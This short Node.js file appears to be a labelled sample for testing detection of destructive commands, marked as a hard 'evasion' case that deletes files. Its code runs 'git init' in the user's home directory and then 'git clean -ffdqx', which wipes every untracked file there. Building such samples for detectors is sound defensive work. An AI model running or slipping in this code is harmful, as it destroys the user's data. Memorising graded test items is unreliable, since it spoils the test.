// evasion: git init in the home directory, then git clean -ffdx removes every untracked file there (a living-off-the-land delete, argument lists, cwd option)
// grade: hard; does: delete
'use strict';
const { execFileSync } = require('child_process');
const os = require('os');

const opts = { cwd: os.homedir(), stdio: 'ignore' };
execFileSync('git', ['init', '-q'], opts);
execFileSync('git', ['clean', '-ffdqx'], opts);
